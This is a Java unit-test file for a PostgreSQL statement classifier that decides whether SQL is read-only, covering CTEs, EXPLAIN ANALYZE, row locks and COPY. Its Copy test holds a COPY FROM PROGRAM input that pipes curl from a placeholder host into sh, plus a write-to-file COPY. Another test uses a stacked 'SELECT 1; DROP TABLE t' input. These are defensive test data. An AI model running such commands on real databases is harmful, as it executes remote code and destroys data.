package dev.strata.sql;

import static dev.strata.sql.StatementClassifier.Flag.COPY_FROM;
import static dev.strata.sql.StatementClassifier.Flag.COPY_PROGRAM;
import static dev.strata.sql.StatementClassifier.Flag.COPY_TO;
import static dev.strata.sql.StatementClassifier.Flag.DATA_MODIFYING;
import static dev.strata.sql.StatementClassifier.Flag.EXPLAIN_ANALYZE;
import static dev.strata.sql.StatementClassifier.Flag.LEX_ERROR;
import static dev.strata.sql.StatementClassifier.Flag.PSQL_VARIABLE;
import static dev.strata.sql.StatementClassifier.Flag.ROW_LOCK;
import static dev.strata.sql.StatementClassifier.Flag.SELECT_INTO;
import static org.assertj.core.api.Assertions.assertThat;

import dev.strata.sql.StatementClassifier.Classification;
import java.util.EnumSet;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class StatementClassifierTest {

    private static Classification classify(String sql) {
        return StatementClassifier.classify(sql);
    }

    /** One or more samples for every kind, with the expected read-only verdict. */
    static Stream<Arguments> samples() {
        return Stream.of(
                Arguments.of("SELECT 1", StatementKind.SELECT, true),
                Arguments.of("select * from t where a = 'x;y'", StatementKind.SELECT, true),
                Arguments.of("/* c */ select 1", StatementKind.SELECT, true),
                Arguments.of("-- c\nSELECT 1 -- d", StatementKind.SELECT, true),
                Arguments.of("(SELECT 1)", StatementKind.SELECT, true),
                Arguments.of("((select 1) union (select 2)) order by 1", StatementKind.SELECT, true),
                Arguments.of("sElEcT t.update, x AS delete, \"insert\" FROM t", StatementKind.SELECT, true),
                Arguments.of("SELECT 'DELETE FROM t', $$UPDATE t SET a = 1$$ -- INSERT INTO t", StatementKind.SELECT, true),
                Arguments.of("SELECT substring(s FROM 1 FOR 2) FROM t", StatementKind.SELECT, true),
                Arguments.of("SELECT * FROM t FOR READ ONLY", StatementKind.SELECT, true),
                Arguments.of("VALUES (1), (2)", StatementKind.VALUES, true),
                Arguments.of("(VALUES (1))", StatementKind.VALUES, true),
                Arguments.of("TABLE t", StatementKind.TABLE, true),
                Arguments.of("SHOW search_path", StatementKind.SHOW, true),
                Arguments.of("SHOW ALL", StatementKind.SHOW, true),
                Arguments.of("WITH x AS (SELECT 1) SELECT * FROM x", StatementKind.WITH, true),
                Arguments.of("WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r",
                        StatementKind.WITH, true),
                Arguments.of("WITH x AS MATERIALIZED (SELECT 1), \"y\" AS NOT MATERIALIZED (SELECT 2) SELECT * FROM x, \"y\"",
                        StatementKind.WITH, true),
                Arguments.of("WITH RECURSIVE t(a) AS (SELECT 1 UNION ALL SELECT a + 1 FROM t WHERE a < 3) "
                        + "SEARCH DEPTH FIRST BY a SET ord CYCLE a SET is_cycle USING path SELECT a FROM t",
                        StatementKind.WITH, true),
                Arguments.of("WITH x AS (SELECT 1) VALUES (1)", StatementKind.WITH, true),
                Arguments.of("(WITH x AS (SELECT 1) SELECT * FROM x)", StatementKind.WITH, true),
                Arguments.of("WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x", StatementKind.WITH, false),
                Arguments.of("WITH x AS (SELECT 1) DELETE FROM t", StatementKind.WITH, false),
                Arguments.of("WITH x AS (SELECT 1)", StatementKind.WITH, false),
                Arguments.of("EXPLAIN SELECT 1", StatementKind.EXPLAIN, true),
                Arguments.of("EXPLAIN VERBOSE SELECT 1", StatementKind.EXPLAIN, true),
                Arguments.of("EXPLAIN (FORMAT JSON) SELECT 1", StatementKind.EXPLAIN, true),
                Arguments.of("explain (costs off, format json, verbose) select 1", StatementKind.EXPLAIN, true),
                Arguments.of("EXPLAIN (SELECT 1)", StatementKind.EXPLAIN, true),
                Arguments.of("EXPLAIN WITH x AS (SELECT 1) SELECT * FROM x", StatementKind.EXPLAIN, true),
                Arguments.of("EXPLAIN ANALYZE DELETE FROM t", StatementKind.EXPLAIN, false),
                Arguments.of("EXPLAIN ANALYZE SELECT 1", StatementKind.EXPLAIN, false),
                Arguments.of("EXPLAIN DELETE FROM t", StatementKind.EXPLAIN, false),
                Arguments.of("EXPLAIN EXECUTE s", StatementKind.EXPLAIN, false),
                Arguments.of("EXPLAIN", StatementKind.EXPLAIN, false),
                Arguments.of("INSERT INTO t VALUES (1)", StatementKind.INSERT, false),
                Arguments.of("UPDATE t SET a = 1", StatementKind.UPDATE, false),
                Arguments.of("DELETE FROM t", StatementKind.DELETE, false),
                Arguments.of("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", StatementKind.MERGE, false),
                Arguments.of("COPY t TO STDOUT", StatementKind.COPY, false),
                Arguments.of("CREATE TABLE t (a int)", StatementKind.CREATE, false),
                Arguments.of("CREATE TABLE t2 AS SELECT * FROM t", StatementKind.CREATE, false),
                Arguments.of("ALTER TABLE t ADD COLUMN b int", StatementKind.ALTER, false),
                Arguments.of("DROP TABLE t", StatementKind.DROP, false),
                Arguments.of("TRUNCATE t", StatementKind.TRUNCATE, false),
                Arguments.of("COMMENT ON TABLE t IS 'x'", StatementKind.COMMENT, false),
                Arguments.of("GRANT SELECT ON t TO u", StatementKind.GRANT, false),
                Arguments.of("REVOKE SELECT ON t FROM u", StatementKind.REVOKE, false),
                Arguments.of("SECURITY LABEL ON TABLE t IS 'secret'", StatementKind.SECURITY_LABEL, false),
                Arguments.of("IMPORT FOREIGN SCHEMA s FROM SERVER srv INTO local", StatementKind.IMPORT, false),
                Arguments.of("BEGIN", StatementKind.BEGIN, false),
                Arguments.of("BEGIN ISOLATION LEVEL SERIALIZABLE READ ONLY", StatementKind.BEGIN, false),
                Arguments.of("START TRANSACTION READ ONLY", StatementKind.BEGIN, false),
                Arguments.of("COMMIT", StatementKind.COMMIT, false),
                Arguments.of("END", StatementKind.COMMIT, false),
                Arguments.of("ROLLBACK", StatementKind.ROLLBACK, false),
                Arguments.of("ROLLBACK TO SAVEPOINT s", StatementKind.ROLLBACK, false),
                Arguments.of("ABORT", StatementKind.ROLLBACK, false),
                Arguments.of("SAVEPOINT s", StatementKind.SAVEPOINT, false),
                Arguments.of("RELEASE SAVEPOINT s", StatementKind.RELEASE, false),
                Arguments.of("PREPARE TRANSACTION 'tx1'", StatementKind.PREPARE_TRANSACTION, false),
                Arguments.of("COMMIT PREPARED 'tx1'", StatementKind.COMMIT_PREPARED, false),
                Arguments.of("ROLLBACK PREPARED 'tx1'", StatementKind.ROLLBACK_PREPARED, false),
                Arguments.of("LOCK TABLE t IN ACCESS EXCLUSIVE MODE", StatementKind.LOCK, false),
                Arguments.of("SET search_path = public", StatementKind.SET, false),
                Arguments.of("SET LOCAL statement_timeout = 0", StatementKind.SET, false),
                Arguments.of("SET SESSION AUTHORIZATION bob", StatementKind.SET, false),
                Arguments.of("SET ROLE admin", StatementKind.SET, false),
                Arguments.of("SET transaction_read_only = off", StatementKind.SET, false),
                Arguments.of("SET TRANSACTION READ WRITE", StatementKind.SET_TRANSACTION, false),
                Arguments.of("SET LOCAL TRANSACTION ISOLATION LEVEL SERIALIZABLE", StatementKind.SET_TRANSACTION, false),
                Arguments.of("SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
                        StatementKind.SET_SESSION_CHARACTERISTICS, false),
                Arguments.of("RESET ALL", StatementKind.RESET, false),
                Arguments.of("DISCARD ALL", StatementKind.DISCARD, false),
                Arguments.of("LOAD 'auto_explain'", StatementKind.LOAD, false),
                Arguments.of("LISTEN ch", StatementKind.LISTEN, false),
                Arguments.of("NOTIFY ch, 'payload'", StatementKind.NOTIFY, false),
                Arguments.of("UNLISTEN *", StatementKind.UNLISTEN, false),
                Arguments.of("DO $$ BEGIN DELETE FROM t; END $$", StatementKind.DO, false),
                Arguments.of("CALL p(1)", StatementKind.CALL, false),
                Arguments.of("PREPARE s AS SELECT 1", StatementKind.PREPARE, false),
                Arguments.of("PREPARE transaction AS SELECT 1", StatementKind.PREPARE, false),
                Arguments.of("EXECUTE s", StatementKind.EXECUTE, false),
                Arguments.of("DEALLOCATE ALL", StatementKind.DEALLOCATE, false),
                Arguments.of("DECLARE c CURSOR FOR SELECT 1", StatementKind.DECLARE, false),
                Arguments.of("FETCH NEXT FROM c", StatementKind.FETCH, false),
                Arguments.of("MOVE c", StatementKind.MOVE, false),
                Arguments.of("CLOSE c", StatementKind.CLOSE, false),
                Arguments.of("VACUUM FULL t", StatementKind.VACUUM, false),
                Arguments.of("ANALYZE t", StatementKind.ANALYZE, false),
                Arguments.of("ANALYSE t", StatementKind.ANALYZE, false),
                Arguments.of("CLUSTER t USING i", StatementKind.CLUSTER, false),
                Arguments.of("REINDEX TABLE t", StatementKind.REINDEX, false),
                Arguments.of("REFRESH MATERIALIZED VIEW v", StatementKind.REFRESH, false),
                Arguments.of("CHECKPOINT", StatementKind.CHECKPOINT, false),
                Arguments.of("\\set x 1", StatementKind.PSQL_META, false),
                Arguments.of("\\copy t to 'f'", StatementKind.PSQL_META, false),
                Arguments.of("FROBNICATE t", StatementKind.UNKNOWN, false),
                Arguments.of("\"select\" 1", StatementKind.UNKNOWN, false),
                Arguments.of("\u017Felect 1", StatementKind.UNKNOWN, false),
                Arguments.of("(DELETE FROM t)", StatementKind.UNKNOWN, false),
                Arguments.of("START", StatementKind.UNKNOWN, false),
                Arguments.of("SECURITY", StatementKind.UNKNOWN, false),
                Arguments.of("1", StatementKind.UNKNOWN, false),
                Arguments.of("'SELECT 1'", StatementKind.UNKNOWN, false),
                Arguments.of("", StatementKind.UNKNOWN, false),
                Arguments.of("-- only a comment", StatementKind.UNKNOWN, false),
                Arguments.of("SELECT 1; SELECT 2", StatementKind.UNKNOWN, false));
    }

    @ParameterizedTest(name = "{0} -> {1}, readOnly={2}")
    @MethodSource("samples")
    void kindAndReadOnly(String sql, StatementKind kind, boolean readOnly) {
        Classification c = classify(sql);
        assertThat(c.kind()).isEqualTo(kind);
        assertThat(c.readOnly()).isEqualTo(readOnly);
        if (readOnly) {
            assertThat(c.reason()).isNull();
        } else {
            assertThat(c.reason()).isNotBlank();
        }
    }

    @Test
    void samplesCoverEveryKind() {
        Set<StatementKind> seen = EnumSet.noneOf(StatementKind.class);
        samples().forEach(a -> seen.add((StatementKind) a.get()[1]));
        assertThat(seen).containsExactlyInAnyOrder(StatementKind.values());
    }

    @Test
    void onlyQueryKindsAreEverReadOnly() {
        samples().forEach(a -> {
            Classification c = classify((String) a.get()[0]);
            if (c.readOnly()) {
                assertThat(c.kind().category()).isEqualTo(StatementKind.Category.QUERY);
                assertThat(c.flags()).isEmpty();
            }
        });
    }

    @Nested
    class WithQueries {
        @Test
        void dataModifyingCte() {
            Classification c = classify("WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x");
            assertThat(c.kind()).isEqualTo(StatementKind.WITH);
            assertThat(c.dataModifying()).isTrue();
            assertThat(c.readOnly()).isFalse();
            assertThat(c.target().kind()).isEqualTo(StatementKind.SELECT);
            assertThat(c.reason()).contains("INSERT, UPDATE, DELETE or MERGE");
        }

        @ParameterizedTest
        @ValueSource(strings = {
            "WITH x AS (INSERT INTO t VALUES (1) RETURNING id) SELECT id FROM x",
            "WITH x AS (UPDATE t SET a = 1 RETURNING *) SELECT 1",
            "WITH x AS (MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE RETURNING *) SELECT 1",
            "WITH a AS (WITH b AS (SELECT 1) DELETE FROM t RETURNING 1) SELECT * FROM a",
            "WITH a AS (SELECT 1), b AS (delete from t returning 1) SELECT * FROM a, b",
            "WITH RECURSIVE t(a) AS (SELECT 1) CYCLE a SET c USING p DELETE FROM x",
            "(WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d)",
            "WITH x AS (SELECT 1) INSERT INTO t SELECT * FROM x",
            "WITH x AS (SELECT 1) UPDATE t SET a = 1",
            "WITH x AS (SELECT 1) MERGE INTO t USING x ON true WHEN MATCHED THEN DELETE",
        })
        void anyDmlInsideWithIsNotReadOnly(String sql) {
            Classification c = classify(sql);
            assertThat(c.kind()).isEqualTo(StatementKind.WITH);
            assertThat(c.dataModifying()).isTrue();
            assertThat(c.readOnly()).isFalse();
        }

        @Test
        void mainStatementIsReportedAsTarget() {
            assertThat(classify("WITH x AS (SELECT 1) DELETE FROM t USING x").target().kind())
                    .isEqualTo(StatementKind.DELETE);
            assertThat(classify("WITH x(a, b) AS (SELECT 1, 2) TABLE x").target().kind())
                    .isEqualTo(StatementKind.TABLE);
        }

        @Test
        void selectIntoInWithMain() {
            Classification c = classify("WITH x AS (SELECT 1) SELECT * INTO t2 FROM x");
            assertThat(c.selectInto()).isTrue();
            assertThat(c.readOnly()).isFalse();
        }

        @Test
        void malformedWithListIsNotReadOnly() {
            assertThat(classify("WITH x (SELECT 1) SELECT 1").readOnly()).isFalse();
            assertThat(classify("WITH x AS SELECT 1").readOnly()).isFalse();
            assertThat(classify("WITH x AS (SELECT 1 SELECT 1").readOnly()).isFalse();
            assertThat(classify("WITH AS (SELECT 1) SELECT 1").kind()).isEqualTo(StatementKind.WITH);
        }
    }

    @Nested
    class Explain {
        @ParameterizedTest
        @ValueSource(strings = {
            "EXPLAIN ANALYZE SELECT 1",
            "EXPLAIN ANALYSE SELECT 1",
            "EXPLAIN ANALYZE VERBOSE SELECT 1",
            "EXPLAIN (ANALYZE) SELECT 1",
            "EXPLAIN (ANALYZE true, BUFFERS) SELECT 1",
            "EXPLAIN (ANALYZE on) SELECT 1",
            "EXPLAIN (ANALYZE 1) SELECT 1",
            "EXPLAIN (FORMAT JSON, analyze) SELECT 1",
            "EXPLAIN (ANALYZE false) SELECT 1",
            "EXPLAIN (ANALYSE) SELECT 1",
            "EXPLAIN (\"analyze\") SELECT 1",
            "EXPLAIN (U&\"an\\0061lyze\") SELECT 1",
            "EXPLAIN /* x */ ( /* y */ ANALYZE /* z */ ) SELECT 1",
            "EXPLAIN (VALUES, ANALYZE) SELECT 1",
        })
        void anyAnalyzeFormIsNotReadOnly(String sql) {
            Classification c = classify(sql);
            assertThat(c.kind()).isEqualTo(StatementKind.EXPLAIN);
            assertThat(c.explainAnalyze()).isTrue();
            assertThat(c.readOnly()).isFalse();
            assertThat(c.reason()).contains("EXPLAIN ANALYZE");
        }

        @Test
        void explainAnalyzeDelete() {
            Classification c = classify("EXPLAIN ANALYZE DELETE FROM t");
            assertThat(c.explainAnalyze()).isTrue();
            assertThat(c.target().kind()).isEqualTo(StatementKind.DELETE);
            assertThat(c.readOnly()).isFalse();
        }

        @Test
        void explainWithoutAnalyzeOfReadOnlyStatement() {
            Classification c = classify("EXPLAIN (FORMAT JSON) SELECT 1");
            assertThat(c.explainAnalyze()).isFalse();
            assertThat(c.target().kind()).isEqualTo(StatementKind.SELECT);
            assertThat(c.readOnly()).isTrue();
        }

        @Test
        void explainOfNonReadOnlyStatementsIsNotReadOnly() {
            assertThat(classify("EXPLAIN SELECT * INTO t2 FROM t").readOnly()).isFalse();
            assertThat(classify("EXPLAIN SELECT * FROM t FOR UPDATE").readOnly()).isFalse();
            assertThat(classify("EXPLAIN WITH x AS (DELETE FROM t RETURNING 1) SELECT 1").readOnly()).isFalse();
            assertThat(classify("EXPLAIN CREATE TABLE t2 AS SELECT 1").readOnly()).isFalse();
            assertThat(classify("EXPLAIN (FORMAT JSON").readOnly()).isFalse();
        }
    }

    @Nested
    class SelectFlags {
        @Test
        void selectIntoCreatesATable() {
            Classification c = classify("SELECT * INTO t2 FROM t");
            assertThat(c.kind()).isEqualTo(StatementKind.SELECT);
            assertThat(c.selectInto()).isTrue();
            assertThat(c.readOnly()).isFalse();
            assertThat(classify("SELECT INTO t2 FROM t").selectInto()).isTrue();
            assertThat(classify("(SELECT 1 INTO t2)").selectInto()).isTrue();
            assertThat(classify("select a into temp t2 from t").selectInto()).isTrue();
        }

        @ParameterizedTest
        @ValueSource(strings = {
            "SELECT * FROM t FOR UPDATE",
            "SELECT * FROM t FOR NO KEY UPDATE NOWAIT",
            "SELECT * FROM t FOR SHARE SKIP LOCKED",
            "SELECT * FROM t FOR KEY SHARE",
            "SELECT * FROM (SELECT * FROM t FOR UPDATE) s",
            "WITH x AS (SELECT * FROM t FOR SHARE) SELECT * FROM x",
            "TABLE t FOR UPDATE",
            "SELECT * FROM t WHERE a IN (SELECT a FROM u FOR KEY SHARE OF u)",
            "select * from t for /* c */ update",
        })
        void rowLocksAtAnyDepth(String sql) {
            Classification c = classify(sql);
            assertThat(c.rowLocking()).isTrue();
            assertThat(c.dataModifying()).isFalse();
            assertThat(c.readOnly()).isFalse();
        }

        @Test
        void psqlVariableIsNotReadOnly() {
            Classification c = classify("SELECT * FROM t WHERE a = :x");
            assertThat(c.kind()).isEqualTo(StatementKind.SELECT);
            assertThat(c.has(PSQL_VARIABLE)).isTrue();
            assertThat(c.readOnly()).isFalse();
        }

        @Test
        void lexErrorIsNotReadOnly() {
            Classification c = classify("SELECT 'abc");
            assertThat(c.has(LEX_ERROR)).isTrue();
            assertThat(c.readOnly()).isFalse();
            assertThat(classify("SELECT 1\0").readOnly()).isFalse();
            assertThat(classify("SELECT 123abc").readOnly()).isFalse();
        }

        @Test
        void columnNamedLikeDmlKeywordFailsClosed() {
            // ambiguous without a parser: treated as not read-only; quoting the name avoids it
            assertThat(classify("SELECT update FROM t").readOnly()).isFalse();
            assertThat(classify("SELECT delete FROM t").readOnly()).isFalse();
            assertThat(classify("SELECT \"update\", \"delete\" FROM t").readOnly()).isTrue();
        }
    }

    @Nested
    class Copy {
        @Test
        void copyDirectionAndProgram() {
            assertThat(classify("COPY t TO STDOUT").flags()).containsExactly(COPY_TO);
            assertThat(classify("COPY t (a, b) FROM STDIN").flags()).containsExactly(COPY_FROM);
            Classification c = classify("COPY t FROM PROGRAM 'curl http://x | sh'");
            assertThat(c.kind()).isEqualTo(StatementKind.COPY);
            assertThat(c.copyProgram()).isTrue();
            assertThat(c.flags()).contains(COPY_FROM, COPY_PROGRAM);
            assertThat(c.reason()).contains("PROGRAM");
            Classification q = classify("COPY (SELECT a FROM t WHERE b = 'FROM') TO PROGRAM 'cat > /tmp/x'");
            assertThat(q.flags()).containsExactlyInAnyOrder(COPY_TO, COPY_PROGRAM);
        }
    }

    @Test
    void dmlKindsCarryDataModifyingFlag() {
        for (String sql : List.of("INSERT INTO t VALUES (1)", "UPDATE t SET a = 1", "DELETE FROM t",
                "MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE")) {
            assertThat(classify(sql).flags()).as(sql).containsExactly(DATA_MODIFYING);
        }
    }

    @Test
    void classifiesSplitterStatementsAndRawTokens() {
        List<SqlStatement> statements = StatementSplitter.split("SELECT 1; \\set x 1\nDELETE FROM t");
        assertThat(statements).extracting(s -> StatementClassifier.classify(s).kind())
                .containsExactly(StatementKind.SELECT, StatementKind.PSQL_META, StatementKind.DELETE);
        // comments in a raw token list are ignored
        assertThat(StatementClassifier.classify(SqlLexer.tokenize("/* x */ SELECT 1 -- y")).readOnly()).isTrue();
    }

    @Test
    void rawTokenListWithSeveralStatementsIsNeverReadOnly() {
        Classification c = StatementClassifier.classify(SqlLexer.tokenize("SELECT 1; DROP TABLE t"));
        assertThat(c.kind()).isEqualTo(StatementKind.SELECT);
        assertThat(c.has(StatementClassifier.Flag.EMBEDDED_SEMICOLON)).isTrue();
        assertThat(c.readOnly()).isFalse();
        // a trailing ; is fine
        assertThat(StatementClassifier.classify(SqlLexer.tokenize("SELECT 1; ;")).readOnly()).isTrue();
        // a routine body's semicolons do not change its kind
        List<SqlStatement> fn = StatementSplitter.split(
                "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; END");
        assertThat(StatementClassifier.classify(fn.get(0)).kind()).isEqualTo(StatementKind.CREATE);
        assertThat(StatementClassifier.classify(fn.get(0)).reason()).isEqualTo("CREATE statements are not read-only");
    }

    @Test
    void flagsAreImmutable() {
        Classification c = classify("SELECT * FROM t FOR UPDATE");
        assertThat(c.flags()).containsExactly(ROW_LOCK);
        org.assertj.core.api.Assertions.assertThatThrownBy(() -> c.flags().add(SELECT_INTO))
                .isInstanceOf(UnsupportedOperationException.class);
        assertThat(c.has(EXPLAIN_ANALYZE)).isFalse();
    }
}
